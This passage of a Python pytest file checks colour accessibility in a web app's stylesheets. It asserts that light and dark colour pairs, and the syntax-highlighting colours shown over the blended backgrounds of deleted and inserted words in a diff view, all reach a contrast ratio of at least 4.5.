    assert len(pairs) > 10
    for light, dark in pairs:
        assert min(_contrast(light, "#f6f7f9"), _contrast(light, "#f4f2ee")) >= 4.5
        assert min(_contrast(dark, "#15181d"), _contrast(dark, "#1b1c1f")) >= 4.5


def _mixed(one: str, other: str, share: float) -> str:
    pairs = ((int(one[i : i + 2], 16), int(other[i : i + 2], 16)) for i in (1, 3, 5))
    return "#" + "".join(f"{round(a * share + b * (1 - share)):02x}" for a, b in pairs)


@pytest.mark.parametrize(("mark", "tone"), [("del", "bad"), ("ins", "good")])
@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_every_colour_of_code_can_be_read_in_a_changed_word(
    mark: str, tone: str, scheme: int
) -> None:
    sheets = Path(rendering.__file__).parents[2] / "static/css"
    pairs = r"light-dark\((#\w{6}), (#\w{6})\)"
    tokens = (sheets / "tokens.css").read_text()
    of_mark, of_line = (
        re.findall(rf"--{tone}-{name}: {pairs}", tokens)[0][scheme] for name in ("mark", "wash")
    )
    rule = (sheets / "changes.css").read_text().partition(f".change-lines code {mark} {{")[2]
    share = re.findall(rf"background: color-mix\(in srgb, var\(--{tone}-mark\) (\d+)%", rule)[0]

    ground = _mixed(of_mark, of_line, int(share) / 100)

    colours = re.findall(pairs, (sheets / "code.css").read_text())
    assert min(_contrast(each[scheme], ground) for each in colours) >= 4.5
